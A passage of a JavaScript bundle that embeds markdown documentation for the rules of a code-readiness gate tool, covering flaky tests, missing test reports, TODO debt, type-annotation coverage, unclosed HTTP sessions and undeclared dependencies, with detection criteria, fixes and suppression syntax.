var test_flaky_default = "# test-flaky\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P1** | tests | 60 min | `src/checks/test-flaky/` |\n\nA test both failed and passed in this run.\n\n## What is detected\n\n- A test case that failed in one attempt and passed in another **within one report**\n  (`gotestsum --rerun-fails` and pytest-rerunfailures repeat the case). Tests are identified by\n  suite, file, classname and name.\n- A test case that the report marks as passed on a rerun: Maven Surefire/Failsafe\n  `<flakyFailure>` / `<flakyError>` with `rerunFailingTestsCount`.\n\nA flaky test's last attempt passed, so it gets this finding and no\n[`test-failure`](test-failure.md). The message says how many attempts failed, and the first\nline of the failure; the location is found as for test-failure.\n\nA failure in one report and a pass in another (a matrix leg, a rerun job's separate report, or\na passing report planted beside this run's) is **not** a flake: it stays a\n[`test-failure`](test-failure.md) (P0). A second file never launders a failure. Past 1,000\nfailing and flaky tests, the rest are counted in one finding instead of listed.\n\n## Why it matters\n\nReruns turn red builds green without fixing anything. A flaky test hides real failures (the\none time it fails for a real reason, it is rerun too) and teaches the team to ignore red.\n\n## How to fix\n\nFind what the test depends on besides the code under test — time, order, shared state, the\nnetwork, timeouts, random data — and remove it. Quarantine it explicitly while you do, rather\nthan relying on reruns.\n\n## Not detected (near-misses)\n\n- A test that failed in every attempt (`<failure>` with `<rerunFailure>`s): that is a failure.\n- A test that failed in one report and passed in another: a failure, not a flake (see above).\n- Reports committed to the repository: not evidence unless the input names them by path.\n- Two different tests with the same method name in different classes or files.\n- Flakiness across runs (yesterday red, today green): only this run's reports are read.\n\n## Example findings\n\n> **P1 test-flaky** `src/test/java/com/acme/shop/CartTest.java:27`\n> com.acme.shop.CartTest.appliesDiscount is flaky: it passed on a rerun after 1 failed\n> attempt: expected: <90> but was: <100>\n\n## How to suppress\n\nWith a reason and an expiry in the configuration file:\n`{ rule: test-flaky, path: src/test/java/com/acme/shop/CartTest.java, reason: \"quarantined, #123\", expires: 2026-12-31 }`.\n";

// raw:rules/checks/test-reports-missing.md
var test_reports_missing_default = "# test-reports-missing\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P1** | tests | 15 min | `src/checks/test-reports-missing/` |\n\nTest results were expected but none can be read.\n\n## What is detected\n\nWhen `test-reports` is given, or the project has a test suite (`tests/`, `test_*.py`,\n`*_test.go`, `*.test.ts`, `src/test/java`, RSpec's `spec/**/*_spec.rb`, Minitest's\n`test/**/*_test.rb`, ExUnit's `test/**/*_test.exs`, Dart's `test/**/*_test.dart`...):\n\n- `test-reports` matches no file;\n- no report was found in the usual places (when `test-reports` is not given);\n- every report found is empty, not XML, truncated or otherwise unreadable (the message names\n  them and why);\n- the reports hold no executed test (all skipped, or no test case at all).\n\nWhen `test-reports` is given and matches no file the job wrote (only committed ones, or none:\na test step that crashed, or that deleted its own report), the run is also **blocked**, whatever\nthe severity of this finding: the input names evidence that is not there (SPEC §9, fail closed).\n\nIt also fills the **Test results** row of the gap table.\n\n## Why it matters\n\nA gate that cannot see the test results must not look like one whose tests pass. A test step\nthat crashes before writing its report, or writes it somewhere else, is otherwise silent.\n\n## How to fix\n\nMake the test step write JUnit XML before this step runs, even when tests fail, and point\n`test-reports` at it: `pytest --junitxml=junit.xml`, `jest --reporters=default --reporters=jest-junit`,\n`vitest --reporter=junit --outputFile=junit.xml`, `gotestsum --junitfile junit.xml`, Surefire's\n`target/surefire-reports/`.\n\n## Not detected (near-misses)\n\n- A project with no test suite and no `test-reports` input: not applicable.\n- One broken report beside a readable one: the broken one gets a line in the summary, and\n  this rule stays quiet.\n\n## Example findings\n\n> **P1 test-reports-missing** `junit.xml`\n> No test report could be read: junit.xml (truncated or incomplete XML (…: unclosed tag: failure)).\n\n## How to suppress\n\nFor a repository whose tests run elsewhere, turn the rule off (`rules: { test-reports-missing: off }`).\n";

// raw:rules/checks/todo-debt.md
var todo_debt_default = '# todo-debt\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P2** | code-health | 60 min | `src/checks/todo-debt/` |\n\nThe number of TODO, FIXME, HACK and XXX markers left in the code, against an\nagreed limit.\n\n## What is detected\n\nThe check counts markers in code, configuration and documentation files\n(JavaScript/TypeScript, Python, Go, Rust, Java/Kotlin, C/C++/C#, Ruby, PHP, shell,\nSQL, Terraform, HTML/CSS, YAML/TOML/INI/XML, Markdown/RST/AsciiDoc/text,\nDockerfiles, Makefiles...). It always records a metric in the report:\n\n```json\n"todos": { "total": 42, "byMarker": { "TODO": 35, "FIXME": 5, "HACK": 1, "XXX": 1 },\n           "files": 17, "topFiles": [ { "path": "src/api/client.ts", "count": 9 } ] }\n```\n\nIt reports a finding only when `thresholds.max-todos` is set in the\nconfiguration file and the total is **above** it. The finding is about the\nrepository as a whole: its location is `.`, with no line, and its message gives\nthe count by marker, the limit and the three files that hold the most. Its\nfingerprint does not change with the count, so a baseline keeps recognising it.\n\nA marker is the upper-case word, whole, in one of these places:\n\n- right after a comment token, with only spaces between: `//`, `#`, `/*`, a `*`\n  continuation line, `<!--`, `--`, `;`, `%`, `{#`, `{-`, `(*`, `REM`, `::`;\n  followed by `:`, `(`, `!`, `,`, whitespace, the end of the line or a comment\n  closer;\n- at the start of a line (after indentation, a list bullet or a task box) and\n  followed by `:` or `(`, as in a docstring or a docs page (not `XXX`, which at a\n  line start is usually a placeholder);\n- later in a comment, after a space or `(`, and followed by `:` (a marker after\n  a sentence in the same comment).\n\nCounted:\n\n```python\n# TODO: retry on 503\ntimeout = 5  # FIXME(alice) too short for uploads\n```\n\n## Why it matters\n\nEach marker is work that someone decided to leave for later. A few are normal;\nmany, or a growing number, mean that known gaps (missing error handling,\ntemporary workarounds, unfinished features) are going to production unnoticed.\nThe limit makes that debt a decision the team takes, not an accident.\n\n## How to fix\n\nTurn the markers into tracked issues and delete them, fix the cheap ones now,\nor raise `thresholds.max-todos` if the debt is accepted:\n\n```yaml\nthresholds:\n  max-todos: 50\n```\n\nStart with the files listed in the message.\n\n## Not detected (near-misses)\n\n| text | why it is not a marker |\n|---|---|\n| `XXX-XXX-XXXX`, `"XXX"`, `XXX.XXX.0.1` | a placeholder: followed by `-`, `.` or a quote |\n| `# replace XXX with your key` | a placeholder inside a sentence |\n| `xxx`, `todo`, `Todo` | not upper case |\n| `TodoList`, `todos`, `TODO_LIST`, `MY_TODO`, `$TODO`, `XXXX` | part of an identifier or a longer word |\n| `const TODO = 1`, `status = "TODO"` | code, not a comment |\n| `` marking a test as `TODO` `` | a mention in a code span |\n| `// refs TODO below` | inside a comment, with no comment token before it and no colon after |\n\nFiles that are never read: lockfiles (`package-lock.json`, `yarn.lock`,\n`pnpm-lock.yaml`, `*.lock`, `go.sum`), data files (JSON, CSV, SVG and any\nextension not in the list above), minified files (`*.min.*`, or an average line\nlonger than 400 characters), and everything discovery skips (`node_modules`,\n`vendor`, `dist`...).\n\n## Example finding\n\n> **P2 todo-debt** `.`\n> 7 TODO/FIXME/HACK/XXX markers (TODO 4, FIXME 1, HACK 1, XXX 1) exceed the limit of 5\n> (thresholds.max-todos); most in src/a.ts (3), src/b.py (2), Dockerfile (1).\n> Counted in comments and at line starts: a heuristic.\n\n## How to suppress\n\nRaise or remove `thresholds.max-todos`, or turn the rule off\n(`rules: { todo-debt: off }`). A configured suppression also works, with a\nreason (`rule: todo-debt`, `path: "."`); the metric is still recorded.\n';

// raw:rules/checks/type-annotation-coverage.md
var type_annotation_coverage_default = '# type-annotation-coverage\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P0** when `type-coverage-threshold` is set and missed | code-health | 600 min | `src/checks/type-annotation-coverage/` |\n\nThe share of functions whose signature is fully typed, in Python and TypeScript.\n\n## What is detected\n\nFunctions are read from each file\'s syntax tree (tree-sitter):\n\n- **Python**: a function or method is typed when every parameter but the first\n  `self`/`cls` of a method is annotated (`*args: int` and `**kw: str` included) and\n  the return is annotated (`__init__` needs no return annotation), as mypy\'s\n  "typed def".\n- **TypeScript** (`.ts`, `.tsx`, `.mts`, `.cts`): a function, method or arrow\n  function is typed when no parameter and no return type is `any`, explicitly\n  (`x: any`, `Promise<any>`) or implicitly (a parameter with no annotation and no\n  default, in a declaration or method, or in a function expression that nothing\n  types from the context: callbacks passed as arguments and functions assigned\n  to a typed variable are typed by TypeScript).\n\nRuntime code only: tests, tooling, `scripts/`, `docs/`, `examples/` and `.d.ts`\nfiles are not counted. The report always has the metric:\n\n```json\n"typeAnnotations": { "percent": 71.4, "functions": 840, "typed": 600, "untyped": 240, "files": 96,\n  "byLanguage": { "python": { "functions": 700, "typed": 520, "percent": 74.3 } },\n  "worstFiles": [ { "path": "app/legacy.py", "functions": 40, "typed": 2, "percent": 5 } ] }\n```\n\nand the summary shows it under "Code health", with the files that have the\nmost untyped functions. A finding is made only when `type-coverage-threshold`\n(input, or `thresholds.type-coverage` in the configuration file) is set and the\nmeasured share is below it. It is about the repository: location `.`, and a\nfingerprint that does not move with the figures.\n\n## When it is proven\n\nA finding is `proven` (P0) when `type-coverage-threshold` is set and the share of fully typed function signatures of the runtime code, counted one by one, is below it (Python: every parameter bar `self`/`cls` and the return annotated; TypeScript: no explicit or implicit `any` in parameters or return). Test code, tooling and `.d.ts` files are not counted.\n\n- **Likely:** never; a case the rule cannot prove is not reported at all.\n- **Where the file lives** does not change it: the finding keeps its severity in every class of file (test, tooling, docs, example...). (the measure itself leaves test and tooling code out).\n\n## Why it matters\n\nUntyped signatures are where type checkers see nothing: a wrong argument or a\n`None` reaches production instead of failing CI. A team that sets a threshold\nhas decided how much of that it accepts.\n\n## How to fix\n\nAnnotate the parameters and returns of the files listed first (public API\nfirst), then keep the level with `mypy --disallow-untyped-defs` or\n`noImplicitAny`; or lower the threshold if the level is accepted.\n\n## Not counted (near-misses)\n\n| code | why |\n|---|---|\n| `[1, 2].map((x) => x * 2)`, `const h: Handler = (req, res) => ...` | contextually typed |\n| `function f(a = 1)` | the default gives the type |\n| `def method(self, x: int) -> None` | `self`/`cls` need no annotation |\n| `def __init__(self, x: int)` | no return annotation needed |\n| `tests/test_x.py`, `src/x.test.ts`, `types.d.ts` | not runtime code |\n| lambdas | not counted |\n\n## Example finding\n\n> **P0 type-annotation-coverage** `.`\n> Type annotation coverage is 50% (2 of 4 functions fully typed), below the required 80%\n> (type-coverage-threshold): 2 functions miss types, most in app/a.py (1 untyped), app/b.ts (1 untyped).\n\n## How to suppress\n\nLower or remove `type-coverage-threshold`, or a configured suppression with a\nreason (`rule: type-annotation-coverage`, `path: "."`); the metric is still recorded.\n';

// raw:rules/checks/unclosed-resource.md
var unclosed_resource_default = "# unclosed-resource\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P1** | code-health | 60 min | `src/checks/unclosed-resource/` |\n\nA client session created outside a context manager and never closed. **A\nheuristic**: it follows the session within its scope only; the message says so.\n\n## What is detected\n\nIn each Python file's syntax tree (tree-sitter), calls to\n`aiohttp.ClientSession()`, `httpx.AsyncClient()`, `httpx.Client()` and\n`requests.Session()` (through the file's imports) that are:\n\n- assigned to a local variable that nothing in the function closes or hands on;\n- assigned to `self.x` that nothing in the class closes (`self.x.close()`,\n  `await self.x.aclose()`, `async with self.x`) or hands on;\n- assigned to a module-level name that nothing in the module closes;\n- used once and dropped (`requests.Session().get(url)`).\n\n```python\nasync def fetch(url):\n    session = aiohttp.ClientSession()   # P1: never closed\n    return await session.get(url)\n```\n\n## Why it matters\n\nEach session owns a connection pool. Never closed, its sockets stay open until\ngarbage collection (aiohttp warns \"Unclosed client session\"); created per call,\nthey exhaust file descriptors and ports under load.\n\n## How to fix\n\nUse it as a context manager, or create one per application and close it on\nshutdown (the lifespan handler, the owner's `close()` / `__aexit__`).\n\n## Not detected (near-misses)\n\n| code | why it is not a finding |\n|---|---|\n| `async with aiohttp.ClientSession() as s:` | closed by the context manager |\n| `self._session = session or ClientSession()` with `await self._session.close()` in `close()` | closed by its owner |\n| `self.c = httpx.AsyncClient()` in `__aenter__`, `await self.c.aclose()` in `__aexit__` | closed by its owner |\n| a module-level client closed in a shutdown function | closed at shutdown |\n| `return requests.Session()`, `yield s`, `Wrapper(session=requests.Session())`, `stack.enter_async_context(...)` | handed on: the receiver owns it |\n| code in tests, scripts, docs and examples | not runtime code |\n\n## Example finding\n\n> **P1 unclosed-resource** `app/fetch.py:3`\n> `aiohttp.ClientSession()` creates a client session (`session`) outside a `with` block, and nothing\n> in its scope closes it or hands it on (a heuristic reading of this file): its connection pool\n> leaks, and created per call it exhausts sockets under load.\n\n## How to suppress\n\nAn inline `# readiness-gate-ignore unclosed-resource: reason` on the line, or a\nconfigured suppression with a reason.\n";

// raw:rules/checks/undeclared-dependency.md
var undeclared_dependency_default = "# undeclared-dependency\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P0** runtime code / **P1** test code | supply-chain | 15 min | `src/checks/undeclared-dependency/` |\n\nA third-party module imported but declared in no manifest of its project: it\nworks on the developer's machine, where it happens to be installed, and fails on\nthe first clean install.\n\n## What is detected\n\nImports are read from each file's syntax tree (tree-sitter). A project is every\nmanifest in the file's folder and the folders above it (a workspace root hoists\nits dependencies), so a monorepo has as many projects as it has manifests.\n\n**Python** (`src/analysis/deps/python-manifests.ts`): `requirements*.txt` /\n`*.in` and the files of a `requirements/` folder and its subfolders (with `-r`\nincludes; they belong to the project folder above `requirements/`, as\n`requirements/generated/requirements-production.txt` does), `pyproject.toml` (PEP 621\ndependencies and optional dependencies, PEP 735 groups, Poetry, PDM, uv),\n`setup.cfg`, `setup.py` (its `setup()` keywords, read from the syntax tree) and\n`Pipfile`. An import name is not a distribution name. Import names map to distributions through\n[`rules/python-import-names.yml`](../python-import-names.yml) (`yaml`→PyYAML,\n`PIL`→Pillow, `sklearn`→scikit-learn, `cv2`→opencv-python...), by name after PEP 503\nnormalisation (`typing_extensions`→typing-extensions, `google.cloud.storage`→google-cloud-storage,\n`opensearchpy`→opensearch-py, `dateutil`→python-dateutil, `jwt`→pyjwt, `pybars`→pybars3),\nby family (`opentelemetry`→opentelemetry-sdk), and the same file lists modules\nthat always arrive with a declared distribution (`starlette` with FastAPI). The\nstandard library is [`rules/python-stdlib.yml`](../python-stdlib.yml).\n\nA distribution's module names are known when some import of the repository matches it\nby name or by the map, when the map names them, or when it provides only type stubs\n(`types-*`, `*-stubs`). Any other declared or locked distribution may provide any module\n(`django-mirage-field` provides `mirage`, `python3-saml` `onelogin`, `boxsdk` 10 `box_sdk_gen`):\nwhile one is left, an unmatched import is `likely`, not proven.\n\nBuild-time code: the files a `pyproject.toml` has its build backend run — Hatch hooks\n(`[tool.hatch.build.hooks.custom]`, `[tool.hatch.build.targets.<target>.hooks.custom]`,\n`[tool.hatch.metadata.hooks.custom]`: `path`, by default `hatch_build.py`), the PDM hook\n(`[tool.pdm.build] custom-hook`, by default `pdm_build.py`; `setup-script`), Poetry's\n`[tool.poetry.build] script`, and `setup.py` under setuptools (named as the backend, or no\nbackend named) — import from `[build-system] requires` as well, and the repository map\nclassifies them as tooling (the reason names the setting).\n\n**JS/TS**: `package.json` `dependencies`, `peerDependencies`,\n`optionalDependencies` (runtime) and `devDependencies`; Node built-ins with and\nwithout `node:`; workspace packages and the package's own name; tsconfig\n`paths`/`baseUrl` aliases; type-only imports (`import type`, `export type`, all\nspecifiers `type`) are erased and never count.\n\n**Bundler configuration** is the repository's own (`src/analysis/js/bundler.ts`,\nread from the syntax tree of `webpack.config.*`, `webpack.*.js`, `vite.config.*`,\n`rollup.config.*`, `rolldown`/`rspack`/`esbuild`/`tsup`/`electron.vite.config.*`\nand `vue.config.*`), for the files of the package that holds it (the package.json\nfolder at or above it; not tooling files such as the configuration itself):\n\n- an alias (webpack `resolve.alias`, `key$` for the exact name; Vite/Rollup\n  `alias` objects and `[{ find, replacement }]`; `@rollup/plugin-alias` `entries`;\n  webpack-chain `.alias.set('key', …)`) with a literal key: the import resolves to\n  a file, not a package. When the target names a package (`'vue$': 'vue/dist/vue.esm.js'`,\n  `react: 'preact/compat'`, `path.join(cwd, 'node_modules/apollo-link')`), that\n  package is judged instead;\n- an external (webpack `externals`, Rollup/Vite/esbuild/tsup `external`; strings,\n  object keys, esbuild's `*` and subpaths) of a bundle that does not run on Node:\n  the host provides it at run time (Grafana's AMD loader, a page's `<script>`).\n  A Node bundle (`target: 'node…'`, `platform: 'node'`, `externalsPresets.node`,\n  tsup's default, Vite's `ssr.external`) loads its externals from node_modules:\n  they must be installed and are judged as usual;\n- aliases or externals the configuration computes (a spread, a variable, a call,\n  a function or RegExp entry): every undeclared import of the package is `likely`\n  (see below).\n\n**Framework virtual modules**, only when the package depends on the framework:\nDocusaurus (`@docusaurus/core` or `preset-classic`: `@theme/*`, `@site/*`,\n`@generated/*`, and its client modules `@docusaurus/router`, `@docusaurus/Link`,\n`@docusaurus/useBaseUrl`...), VitePress (`@theme/*`). Nuxt's `#app`/`#imports`,\nSvelteKit's `$app/*`/`$lib`/`$env/*`, Astro's `astro:*` and Vite's `virtual:*`\nare no npm names and are never judged. The repository map classes a Docusaurus\nsite below the repository root (the folder of its `docusaurus.config.*`) as `docs`.\n\nSeverity: **P0** in runtime code; **P1** in test code and tooling (test folders,\n`test_*.py`, `*_test.py`, `*.test.ts`, `conftest.py`, `vitest.config.ts`,\n`scripts/`, `docs/`, `examples/`...); a runtime import satisfied only by a\ndevelopment dependency is **P1**. One finding per project and module, at its first\nimport, with the number of files that import it.\n\n```python\nimport pyarrow          # P0 when no manifest of the project declares pyarrow\nfrom PIL import Image   # fine with Pillow in requirements.txt\n```\n\n## When it is proven\n\nA finding is `proven` (P0) when a third-party module is imported by runtime code and nothing installs it:\n\n- no manifest of the file's project (its folder and the folders above) declares the distribution as a runtime dependency, and no lockfile or other declaration installs it; for Python, a lockfile of the project exists (poetry.lock, uv.lock, pdm.lock, Pipfile.lock, or a requirements file compiled by pip-compile / `uv pip compile`: `# via` comments or `--hash=`) and does not install it;\n- Python: every distribution the project declares or locks is accounted for — an import of the repository matches it, or its module names are known (see above) — so none of them can provide the module;\n- it is not first-party (a module of the repository, a workspace package, the package's own name), the standard library or a Node built-in, a tsconfig `paths`/`baseUrl` alias, a bundler alias, an external of a bundle that does not run on Node, a virtual module of a framework the package depends on, or a marker the framework provides (`server-only` with Next.js);\n- the import is not guarded, and no `sys.path` edit applies to the file;\n- JS/TS: something loads the file (see below).\n\nIt is `likely` (reported as P1, the gap named in the message) when:\n\n- the import runs only under a condition: \"the import runs only under a condition\";\n- the importing file is loaded only for its types: \"the module is imported for its types only, so it is never loaded\";\n- no tsconfig or bundler builds the file: \"no tsconfig or bundler builds this file\";\n- a lockfile installs it transitively — a Python lock (poetry.lock, uv.lock, pdm.lock, Pipfile.lock), or an npm package-lock / Yarn lock / pnpm lock that hoists it to the top of node_modules: \"the lockfile installs <dist> transitively; declare it\";\n- a bundler configuration of the package computes its aliases or externals: \"the bundler config (<path>) may alias it\" / \"the bundler config (<path>) may mark it external, provided by the host at run time\";\n- JS/TS, an npm package-lock (entries marked `dev`) or a Yarn lock (what the devDependencies reach) installs it only through development dependencies, and no runtime Dockerfile installs for production only (`npm ci --omit=dev`, `--production`, `yarn install --production`, `pnpm install --prod`, `npm prune --production`): a build and an image that installs without `--production` have it at the top of node_modules (NextChat's `js-yaml`, which eslint brings and `next build` bundles): \"yarn.lock installs js-yaml through development dependencies, which a build and an image that installs without --production have too; declare it\". With such an install in a runtime image, it is proven absent;\n- Python, no lockfile in the project: \"no lockfile: a declared package may install <dist> transitively\";\n- JS/TS, a package of the file (its folder or above) declares dependencies and no lockfile locks it — a package-lock.json, yarn.lock or pnpm-lock.yaml locks only its own folder's package.json and the workspaces that package.json (or pnpm-workspace.yaml) declares, so a root lock says nothing of a nested project installed on its own: \"no lockfile locks this package (<folder>): a declared package may install <name> transitively\";\n- Python, a declared or locked distribution whose module names are not known is left: \"`django-mirage-field` is declared and its module names are not known; it may provide `mirage`\" (up to three named, the closest names first: \"`boxsdk`, `agent-client-protocol`, `dropbox` and 300 other distributions are declared and their module names are not known; one may provide `box_sdk_gen`\");\n- a runtime Dockerfile of the repository installs the package by name (`RUN npm install -g zx @httpx/dsn-parser`, `pip install pyyaml`, `apt-get install python3-yaml`): \"an image installs it (<Dockerfile>:<line>); declare it in the manifest\" — it works in that image today;\n- JS/TS, a tsconfig `baseUrl` governs the file and the bare specifier names no declared package: TypeScript resolves it against `baseUrl` before node_modules, so it may be a file the build writes there. Said with its own message (no \"declare\" remedy) when the file under `baseUrl` is gitignored (\"`UI/Web/i18n-cache-busting.json` is gitignored: a build step writes it\"), under a generated folder, or the specifier names a file (`.json`, `.ts`/`.tsx`/`.mts`/`.cts`; not `.js`, which package names end in: `chart.js`). A package-like name with nothing of the kind (`lodash-es`) stays proven; a specifier that resolves to an existing file under `baseUrl` is no package at all;\n- Python, `pkg_resources`, `setuptools`, `pip`, `wheel`, `_distutils_hack` (not in `setup.py`, where the build backend provides setuptools and nothing is reported): \"setuptools is usually present, though not declared\";\n- nothing imports the file and no entry point names it: \"nothing imports this file and no entry point names it\". Imported means: some JS/TS file or Vue/Svelte component (`<script>` blocks are read) of the repository loads it through a relative, `paths`/`baseUrl` import (an importer that is itself unreachable still counts), or names its file in a string (`new Worker(new URL('./w.js', import.meta.url))`: a `./` path names the file beside the one that writes it, `a/w.js` a file whose path ends so), or a file loads modules by pattern (`import.meta.glob`, `require.context`) from a folder at or above it: the folders its patterns name when every pattern is a relative string literal (`import.meta.glob('../locales/*.json')` reaches `../locales`), else its own folder. Importers, namers and pattern loads count only in files a production process runs: when only tests, tooling, docs or examples load the file, the gap says so (\"only tests, tooling, docs or examples import this file or name it; no entry point names it\"). An entry names it when a package.json (`main`, `module`, `bin`, `exports`, `scripts`...), a bundler configuration (`vite`/`webpack`/`rollup`/`esbuild`/`rspack`/`tsup`... `.config.*`), an `index.html`, a Dockerfile `CMD`/`ENTRYPOINT`, a Procfile or a Phoenix `config/config.exs` in the file's folder or above mentions it (a tsconfig's `files` and `include` are what the compiler reads, not what runs: no entry): its basename with any JS extension, bare or under a build folder (`dist/server.js` names `src/server.ts`), or the end of its path (`assets/js/scoreboard.js` names that file, not another `scoreboard.js`). Only `runtime` files are judged so (tool configuration files and dotfiles are loaded by their tool), and as in [`js-unresolved-import`](js-unresolved-import.md): never in a package whose framework loads files by convention from folders a configuration may move or by name (`nuxt`, `@remix-run/*`, `@react-router/dev`, `@sveltejs/kit`, `astro`, `gatsby`, `expo-router`, `@tanstack/react-start`, `@docusaurus/core`) or that has `.astro` components; in a Next.js package, only outside its `app/` and `pages/` routers and root files. An `.mdx` document's imports load files (edges of the graph); its package imports are not judged (its toolchain provides what it compiles with).\n\nNot judged (not runtime imports): `import type`, and a value import whose bindings are used only as types (`import { Language } from 'prism-react-renderer'` used as `: Language`), which TypeScript, esbuild and Babel erase. Nor is a template a generator renders before it runs — a file with a line that is a `{% … %}` / `{%- … -%}` tag outside strings and comments, or an import whose module has a `{{ … }}` placeholder (`from polar.{{ version }}.client import Client`, `export * from './{{ version }}/client'`). JSX `style={{…}}`, f-strings and template literals are code.\n\nA runtime import satisfied only by development dependencies is P1 by its message (`devOnly`); in test, tooling, docs and example code a development dependency is enough and no finding is made.\n\n**Static frontend code** (`src/analysis/js/frontend.ts`) is bundled at build time, where development\ndependencies are installed, and never loaded by the server: a development dependency is enough there\n(no finding), and a package nothing declares is **P1** (`bundled`: the build fails, the server does\nnot crash). A file is static frontend code when a script of its package runs a frontend bundler build\n(`vite build`/`vp build`, webpack, `ng build`, `vue-cli-service build`, `react-scripts build`,\n`parcel build`, `rsbuild build`; `vp pack`/tsup/tsdown only with `platform: 'browser'`; Laravel\nMix's `mix`, `mix --production` or `mix watch` in a package that depends on `laravel-mix`, not\nElixir's `mix <task>`) and the file\nis a `.vue`/`.svelte`/`.astro` component, an import of the bundler configuration, or reachable in\nthe import graph (relative imports, tsconfig paths, the configuration's folder aliases such as\n`'@': path.resolve(__dirname, 'src')`) from a bundler entry — the `<script src>` of the package's\n`index.html`, `input`/`entry`/`build.lib.entry`, Laravel Mix's `mix.js('src/app.js', …)` (and `ts`,\n`react`, `vue`, chained) in webpack.mix.js, angular.json `main`/`browser`, `src/main` for Vue\nCLI, `src/index` for CRA/webpack/rsbuild — **and** no Node entry reaches it: package.json `main`/`bin`,\na script that runs node/tsx/ts-node/nodemon/bun on a file, a Dockerfile `CMD`/`ENTRYPOINT` or a\nProcfile (for Node, a file that names another in a string or loads a folder by pattern reaches it\ntoo). A file shared by the app and the server (uptime-kuma's `src/util.ts`, required by\n`server/server.js`) stays runtime. Never frontend: packages of frameworks that render on Node (Next.js,\nNuxt, SvelteKit, Remix/React Router, TanStack Start, Astro with a server adapter, Gatsby, Angular SSR,\nElectron; but SvelteKit with `@sveltejs/adapter-static` as its only adapter prerenders into files: its\n`src/routes/` modules and what they import, `$lib` read as the package's `src/lib`, are static frontend), server-side bundles (Vite `build.ssr` or an `ssr` block, `--ssr`, a Node target), and a\npackage whose start entry is missing from the tree while a compiler (tsc without `--noEmit`, babel,\nswc, esbuild, rollup) could build it from sources not traced.\n\n**Where the file lives** (the repository map's class of the importing file): P0 only in `runtime` code; at most P1 in `test`, `tooling`, `generated` and `vendored` code; at most P2 in `docs` and `example` code. The message then ends with the reason (\"(In test code or test data.)\").\n\n## Why it blocks\n\nThe container image or the production install has exactly the declared\ndependencies: the import raises `ModuleNotFoundError` / `ERR_MODULE_NOT_FOUND`\nand the service does not start.\n\n## How to fix\n\nDeclare the distribution in the manifest of the project that imports it (as a\ndevelopment dependency when only tests and tooling use it), or remove the import.\n\n## Not detected (near-misses)\n\n| code | why it is not a finding |\n|---|---|\n| `require('electron')` with `electron` a devDependency | the Electron binary provides it to the app it runs; electron-builder and Electron Forge require it among the devDependencies |\n| `require('vscode')` in a package whose `engines` names `vscode`; `@theia/plugin` where they name `theiaPlugin` | the extension host provides the module to the extension it loads; it is never installed (`@types/vscode` gives its types) |\n| `try: import ujson` / `except ImportError`, `if TYPE_CHECKING:` | optional or never run |\n| `import x` where `x` is a module or package anywhere in the repository | first-party: `python-unresolved-import` judges how it is imported (for a dotted `x.y`, only a folder `x` or a module `x.py` at a source root counts: a plain `pkg/x.py` inside a package has no submodules and Python 3 never imports it as `x`, so `playwright.async_api` next to `content_fetchers/playwright.py` is judged here) |\n| `import starlette` with `fastapi` declared | arrives with it (the `transitive` table) |\n| `import opensearchpy` with `opensearch-py` declared | the same name without separators |\n| `from hatchling.builders.hooks.plugin.interface import BuildHookInterface` in the `hatch_build.py` that `[tool.hatch.build.hooks.custom]` names, `hatchling` in `[build-system] requires` | the build backend's environment has it |\n| `import type { Request } from 'express-serve-static-core'` | erased at compile time |\n| `import { x } from '@mono/web/helper'` | a workspace package |\n| `import { Button } from 'components/Button'` with `baseUrl: \"src\"` | a tsconfig alias |\n| `import q from 'gql/admin/users.gql'` with webpack `alias: { gql: path.join(cwd, 'client/graph') }` | a bundler alias to a folder |\n| `import { isNumber } from 'lodash'` with webpack `externals: ['lodash']` (not a Node target) | the host provides it |\n| `import { useHistory } from '@docusaurus/router'` with `@docusaurus/core` declared | a Docusaurus client module |\n| `import monaco from 'monaco-editor'` used only as `monaco.languages.X` types | erased at compile time |\n| `import { Chart } from 'chart.js'` (a devDependency) in `src/App.vue`, with `\"build\": \"vite build\"` and `\"start\": \"node server/server.js\"` | static frontend code: bundled at build time |\n| a project whose `setup.py` computes `install_requires` | not judged (the manifest cannot be read) |\n| a file under no manifest | not judged |\n\nNot modelled: dependencies installed by a Dockerfile or CI step outside the\nmanifests, conda `environment.yml`, Go modules (the Go toolchain checks them).\n\nInstalled, but only transitively (P1, \"declare it\", see above): the packages a Python lockfile of the project installs (poetry.lock, uv.lock,\npdm.lock, Pipfile.lock) and the packages npm hoists to the top of node_modules per\npackage-lock.json, and those a yarn.lock installs for the runtime dependencies (Yarn classic, or\nBerry with `nodeLinker: node-modules`; not Plug'n'Play, which is strict), and the runtime packages\nof a pnpm-lock.yaml when the repository configures pnpm to hoist (`.npmrc` `node-linker=hoisted`,\n`shamefully-hoist=true` or a matching `public-hoist-pattern`; `nodeLinker`, `shamefullyHoist`,\n`publicHoistPattern` in pnpm-workspace.yaml). pnpm's default layout is isolated: the project's\ncode cannot import a package it does not declare, so a pnpm lock alone proves nothing is installed. Also declared: the hard dependencies of a declared framework listed under `transitive` in\n`rules/python-import-names.yml` (`django_filters` with `wagtail`); Rails importmap pins\n(`config/importmap.rb`: `pin \"@hotwired/stimulus\"`, `pin_all_from ..., under: \"controllers\"`) and\nthe Hex dependencies of a Phoenix project's `mix.exs` (`{:phoenix_html, ...}`, resolved by esbuild\nthrough `NODE_PATH`) for the JS below them; the k6 runtime's own modules (`k6`, `k6/http`). Test set-up\nfiles (`setupTests.ts`, `setup-jest.ts`, `jest-setup.js`) are test code (P1). Suite\nfolders named for tests (`api_tests/`, `integration-tests/`, `e2e-tests/`) are test code (P1). An\nimport under a module-level `if` on configuration is an optional dependency: P1, and so are the\nimports of a JS/TS module that other files import only for its types (generated protobuf typings):\ntranspilers erase those imports, so the module is never loaded.\n\n## Example finding\n\n> **P0 undeclared-dependency** `services/api/app/main.py:4`\n> `pyarrow` is imported (1 file) but no manifest of this project declares it\n> (services/api/requirements.txt, services/api/requirements-base.txt): a clean install does not\n> have it, and the import fails (ModuleNotFoundError / ERR_MODULE_NOT_FOUND). Declare `pyarrow`.\n\n## How to suppress\n\nAn inline `# readiness-gate-ignore undeclared-dependency: reason` on the import\nline, or a configured suppression with a reason.\n";

// raw:rules/checks/unguarded-shared-state.md
